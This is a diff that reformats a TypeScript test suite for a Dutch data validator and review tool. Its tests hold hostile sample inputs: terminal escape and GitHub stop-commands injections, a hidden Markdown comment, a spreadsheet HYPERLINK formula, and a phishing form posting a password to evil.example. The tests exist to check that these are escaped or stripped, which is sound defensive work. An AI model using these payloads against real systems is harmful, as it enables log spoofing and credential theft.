@@ -20,20 +20,38 @@ import { formatDataFile } from '../../src/lib/yaml/format-data-file';
 import { findComments, PARSE_LIMITS } from '../../src/lib/yaml/parse-data-file';
 import { file, input, readFolder, ROOT } from '../helpers/fixtures';
 
-const minimal = 'name: Minimaal initiatief\nkind: pps\nstatus: active\nsummary: Een initiatief met alleen de verplichte velden ingevuld.\nsources:\n  - title: Bron\n';
+const minimal =
+  'name: Minimaal initiatief\nkind: pps\nstatus: active\nsummary: Een initiatief met alleen de verplichte velden ingevuld.\nsources:\n  - title: Bron\n';
 
 describe('data that disappears or is half-read', () => {
-  const entries = (...list: [string, DataEntry['type'], number?][]): DataEntry[] => list.map(([path, type, size]) => ({ path, type, ...(size !== undefined ? { size } : {}) }));
+  const entries = (...list: [string, DataEntry['type'], number?][]): DataEntry[] =>
+    list.map(([path, type, size]) => ({ path, type, ...(size !== undefined ? { size } : {}) }));
 
   it('hands every file in an entity folder to the validator and names everything else', () => {
-    const layout = classifyDataEntries(entries(
-      ['data/README.md', 'file'], ['data/LICENSE', 'file'], ['data/initiatives', 'directory'], ['data/organisations', 'directory'], ['data/regions', 'directory'],
-      ['data/initiatives/cew.yaml', 'file'], ['data/initiatives/oud.yml', 'file'],
-      ['data/initiatives/link.yaml', 'symlink'], ['data/initiatives/sub', 'directory'], ['data/initiatives/sub/x.yaml', 'file'],
-      ['data/initiatives/map.yaml', 'directory'], ['data/initiatives/.verborgen.yaml', 'file'], ['data/initiatives/.DS_Store', 'file'],
-      ['data/initiative', 'directory'], ['data/initiative/y.yaml', 'file'], ['data/los.yaml', 'file'], ['data/notities.txt', 'file'],
-      ['data/regions/provincies.geojson', 'file', 1000], ['data/regions/groot.geojson', 'file', 50 * 1024 * 1024], ['data/regions/kaart.png', 'file', 10],
-    ));
+    const layout = classifyDataEntries(
+      entries(
+        ['data/README.md', 'file'],
+        ['data/LICENSE', 'file'],
+        ['data/initiatives', 'directory'],
+        ['data/organisations', 'directory'],
+        ['data/regions', 'directory'],
+        ['data/initiatives/cew.yaml', 'file'],
+        ['data/initiatives/oud.yml', 'file'],
+        ['data/initiatives/link.yaml', 'symlink'],
+        ['data/initiatives/sub', 'directory'],
+        ['data/initiatives/sub/x.yaml', 'file'],
+        ['data/initiatives/map.yaml', 'directory'],
+        ['data/initiatives/.verborgen.yaml', 'file'],
+        ['data/initiatives/.DS_Store', 'file'],
+        ['data/initiative', 'directory'],
+        ['data/initiative/y.yaml', 'file'],
+        ['data/los.yaml', 'file'],
+        ['data/notities.txt', 'file'],
+        ['data/regions/provincies.geojson', 'file', 1000],
+        ['data/regions/groot.geojson', 'file', 50 * 1024 * 1024],
+        ['data/regions/kaart.png', 'file', 10],
+      ),
+    );
     expect(layout.files.initiative).toEqual(['data/initiatives/cew.yaml', 'data/initiatives/oud.yml']);
     expect(layout.regions).toEqual(['data/regions/provincies.geojson']);
     const by = (path: string) => layout.problems.find((p) => p.file === path);
@@ -74,32 +92,85 @@ describe('data that disappears or is half-read', () => {
   });
 
   it('malformed region GeoJSON gives a message naming the file and the feature, never a crash', () => {
-    const poly = (coordinates: unknown) => ({ type: 'Feature', properties: { id: 'a', name: 'A' }, geometry: { type: 'Polygon', coordinates } });
+    const poly = (coordinates: unknown) => ({
+      type: 'Feature',
+      properties: { id: 'a', name: 'A' },
+      geometry: { type: 'Polygon', coordinates },
+    });
     const cases: [unknown, string][] = [
       [[null], 'features[0]: coordinates[0] is geen lijst van punten'],
-      [[[[5, 52], [6, 52]]], 'features[0]: coordinates[0] heeft 2 punt(en)'],
+      [
+        [
+          [
+            [5, 52],
+            [6, 52],
+          ],
+        ],
+        'features[0]: coordinates[0] heeft 2 punt(en)',
+      ],
       [42, 'features[0]: coordinates moet een lijst van ringen zijn'],
-      [[[[5, 52], [6, 52], [6, 53], [5, 'x'], [5, 52]]], 'features[0]: coordinates[0][3] is geen punt'],
-      [[[[5, 52], [6, 52], [6, 53], [5, 53]]], 'niet gesloten'],
+      [
+        [
+          [
+            [5, 52],
+            [6, 52],
+            [6, 53],
+            [5, 'x'],
+            [5, 52],
+          ],
+        ],
+        'features[0]: coordinates[0][3] is geen punt',
+      ],
+      [
+        [
+          [
+            [5, 52],
+            [6, 52],
+            [6, 53],
+            [5, 53],
+          ],
+        ],
+        'niet gesloten',
+      ],
     ];
     for (const [coordinates, message] of cases) {
-      const r = parseRegionFile({ type: 'FeatureCollection', region_set: { id: 'x', name: 'X', name_plural: 'Xen' }, features: [poly(coordinates)] }, 'data/regions/x.geojson');
+      const r = parseRegionFile(
+        { type: 'FeatureCollection', region_set: { id: 'x', name: 'X', name_plural: 'Xen' }, features: [poly(coordinates)] },
+        'data/regions/x.geojson',
+      );
       expect(r.set).toBeUndefined();
-      expect(r.problems[0]).toMatchObject({ file: 'data/regions/x.geojson', field: 'features[0].geometry', message: expect.stringContaining(message) });
+      expect(r.problems[0]).toMatchObject({
+        file: 'data/regions/x.geojson',
+        field: 'features[0].geometry',
+        message: expect.stringContaining(message),
+      });
     }
     const nullFeature = parseRegionFile({ type: 'FeatureCollection', features: [null] }, 'data/regions/achtergrond.geojson');
     expect(nullFeature.backdrop).toBeUndefined();
     expect(nullFeature.problems[0]!.message).toContain('features[0] is geen GeoJSON Feature');
     // Through the whole validator too: a broken extra region file is a problem, not an exception.
     const broken = { path: 'data/regions/kapot.geojson', text: JSON.stringify({ type: 'FeatureCollection', features: [poly([null])] }) };
-    const d = validateDataset(input(readFolder('schemas/fixtures/valid/initiatives'), readFolder('schemas/fixtures/valid/organisations'), [...input([], []).regions, broken]));
+    const d = validateDataset(
+      input(readFolder('schemas/fixtures/valid/initiatives'), readFolder('schemas/fixtures/valid/organisations'), [
+        ...input([], []).regions,
+        broken,
+      ]),
+    );
     expect(d.problems.filter((p) => p.severity === 'error').map((p) => p.file)).toEqual(['data/regions/kapot.geojson']);
   });
 });
 
 describe('text that deceives', () => {
   it('every echoed value is escaped in terminal output and in GitHub annotations', () => {
-    const p: Problem = { file: 'data/initiatives/x.yaml', line: 2, column: 7, field: 'name', severity: 'error', message: "de tekst '\u001b[2J\u001b[Hgeen fouten\n::stop-commands::x' mag niet", hint: '\u202Eomgekeerd' };
+    const p: Problem = {
+      file: 'data/initiatives/x.yaml',
+      line: 2,
+      column: 7,
+      field: 'name',
+      severity: 'error',
+      message: "de tekst '\u001b[2J\u001b[Hgeen fouten\n::stop-commands::x' mag niet",
+      hint: '\u202Eomgekeerd',
+    };
     const out = formatProblem(p);
     expect(out).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E]/);
     expect(out.split('\n')).toHaveLength(2); // the message and its hint, nothing more
@@ -120,7 +191,21 @@ describe('text that deceives', () => {
 
   it('finds e-mail addresses exactly where the old pattern did', () => {
     const pattern = /[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}/;
-    const samples = ['jan@voorbeeld.nl', 'x a@b.co y', 'a@.nl', '@b.nl', 'a@bnl', 'a@b.n1', 'a@b..nl', 'a@@b.nl', 'a@b@c.nl', 'info@sub.voorbeeld.org.', 'a @b.nl', 'www.voorbeeld.nl/@team', 'a@-.nl'];
+    const samples = [
+      'jan@voorbeeld.nl',
+      'x a@b.co y',
+      'a@.nl',
+      '@b.nl',
+      'a@bnl',
+      'a@b.n1',
+      'a@b..nl',
+      'a@@b.nl',
+      'a@b@c.nl',
+      'info@sub.voorbeeld.org.',
+      'a @b.nl',
+      'www.voorbeeld.nl/@team',
+      'a@-.nl',
+    ];
     for (const s of samples) expect(containsEmailAddress(s), s).toBe(pattern.test(s));
   });
 
@@ -131,44 +216,63 @@ describe('text that deceives', () => {
     expect(personalDataIn(`${'a'.repeat(half)}@${'b'.repeat(half)}`)).toBeUndefined();
     expect(personalDataIn('a@b.'.repeat(PARSE_LIMITS.maxBytes / 4 - 10))).toBeUndefined();
     const big = `description: "${'x@'.repeat(PARSE_LIMITS.maxBytes / 2 - 4000)}"\n${minimal}`;
-    expect(checkFile('initiative', file('data/initiatives/groot.yaml', big)).problems.some((p) => p.message.includes('e-mailadres'))).toBe(false);
+    expect(checkFile('initiative', file('data/initiatives/groot.yaml', big)).problems.some((p) => p.message.includes('e-mailadres'))).toBe(
+      false,
+    );
   });
 });
 
 describe("the reviewer's view", () => {
   it('escapes everything a contributor typed, newlines included', () => {
-    expect(markdownText('Evil <!--\n- Alleen opmaak gewijzigd, geen waarden.')).toBe('Evil &lt;\\!-- - Alleen opmaak gewijzigd, geen waarden.');
+    expect(markdownText('Evil <!--\n- Alleen opmaak gewijzigd, geen waarden.')).toBe(
+      'Evil &lt;\\!-- - Alleen opmaak gewijzigd, geen waarden.',
+    );
     expect(markdownText('[klik](https://evil.example) **vet** `code`')).toBe('\\[klik\\](https://evil.example) \\*\\*vet\\*\\* \\`code\\`');
   });
 
   it('a hostile name cannot hide the warnings or fake a line', () => {
-    const after = 'name: "X <!--\\n\\n- Alleen opmaak gewijzigd, geen waarden.\\n"\nkind: pps\nstatus: active\nsummary: Een initiatief met een verborgen opmerking erin.\nwebsite: https://www.windopzee.nl/\nsources:\n  - title: Bron\n';
-    const md = reviewSummary([{ path: 'data/initiatives/x.yaml', status: 'added', after }], [{ kind: 'initiative', id: 'civ-wind-op-zee', name: 'CIV Wind op Zee', website: 'https://www.windopzee.nl/', points: [] }]);
+    const after =
+      'name: "X <!--\\n\\n- Alleen opmaak gewijzigd, geen waarden.\\n"\nkind: pps\nstatus: active\nsummary: Een initiatief met een verborgen opmerking erin.\nwebsite: https://www.windopzee.nl/\nsources:\n  - title: Bron\n';
+    const md = reviewSummary(
+      [{ path: 'data/initiatives/x.yaml', status: 'added', after }],
+      [{ kind: 'initiative', id: 'civ-wind-op-zee', name: 'CIV Wind op Zee', website: 'https://www.windopzee.nl/', points: [] }],
+    );
     expect(md).not.toContain('<!--');
     expect(md.split('\n').filter((l) => l.startsWith('- Alleen opmaak'))).toEqual([]);
     expect(md).toContain('> ⚠️ Mogelijk dubbel met initiatief CIV Wind op Zee');
   });
 
   it('lists changed code files first, as a warning', () => {
-    const md = reviewSummary([
-      { path: 'data/organisations/x.yaml', status: 'added', after: 'name: X\nkind: other\n' },
-      { path: 'src/lib/review/summary.ts', status: 'modified', before: 'a', after: 'b' },
-    ], []);
+    const md = reviewSummary(
+      [
+        { path: 'data/organisations/x.yaml', status: 'added', after: 'name: X\nkind: other\n' },
+        { path: 'src/lib/review/summary.ts', status: 'modified', before: 'a', after: 'b' },
+      ],
+      [],
+    );
     const warning = md.indexOf('verandert ook code');
     expect(warning).toBeGreaterThan(-1);
     expect(warning).toBeLessThan(md.indexOf('### Organisatie nieuw'));
     expect(md).toContain('- src/lib/review/summary.ts (gewijzigd)');
   });
 
-  const workflow = (name: string) => load(readFileSync(join(ROOT, '.github', 'workflows', name), 'utf8')) as {
-    permissions?: unknown; jobs: Record<string, { permissions?: Record<string, string>; steps: { run?: string; uses?: string; with?: Record<string, unknown>; 'working-directory'?: string }[] }>;
-  };
+  const workflow = (name: string) =>
+    load(readFileSync(join(ROOT, '.github', 'workflows', name), 'utf8')) as {
+      permissions?: unknown;
+      jobs: Record<
+        string,
+        {
+          permissions?: Record<string, string>;
+          steps: { run?: string; uses?: string; with?: Record<string, unknown>; 'working-directory'?: string }[];
+        }
+      >;
+    };
 
   it('deploy: the job that installs and builds may only read; only publishing may write Pages', () => {
     const w = workflow('deploy.yml');
     expect(w.permissions).toEqual({});
     expect(w.jobs.bouwen!.permissions).toEqual({ contents: 'read' });
-    expect(w.jobs.publiceren!.permissions).toEqual({ 'pages': 'write', 'id-token': 'write' });
+    expect(w.jobs.publiceren!.permissions).toEqual({ pages: 'write', 'id-token': 'write' });
     expect(w.jobs.publiceren!.steps.some((s) => s.run)).toBe(false);
   });
 
@@ -188,7 +292,18 @@ describe("the reviewer's view", () => {
 
 describe('downloads and the CMS', () => {
   it('neutralises spreadsheet formulas and restores them exactly', () => {
-    for (const v of ['=HYPERLINK("https://evil.example","klik")', '+31', '-5', '@SUM(A1)', '\tx', '\rx', "'=al beschermd", "'s-Hertogenbosch", 'gewoon', '']) {
+    for (const v of [
+      '=HYPERLINK("https://evil.example","klik")',
+      '+31',
+      '-5',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      "'=al beschermd",
+      "'s-Hertogenbosch",
+      'gewoon',
+      '',
+    ]) {
       const cell = neutraliseFormulaCell(v);
       expect(/^[=+\-@\t\r]/.test(cell), v).toBe(false);
       expect(restoreFormulaCell(cell)).toBe(v);
@@ -197,7 +312,9 @@ describe('downloads and the CMS', () => {
   });
 
   it("the preview's Markdown keeps no form, script or foreign action", () => {
-    const html = renderMarkdown('Tekst <form action="https://evil.example/login"><input name="wachtwoord"><button>Inloggen</button></form> <script>alert(1)</script>');
+    const html = renderMarkdown(
+      'Tekst <form action="https://evil.example/login"><input name="wachtwoord"><button>Inloggen</button></form> <script>alert(1)</script>',
+    );
     expect(html).not.toMatch(/<form|<input|<button|<script|evil\.example/);
   });
 
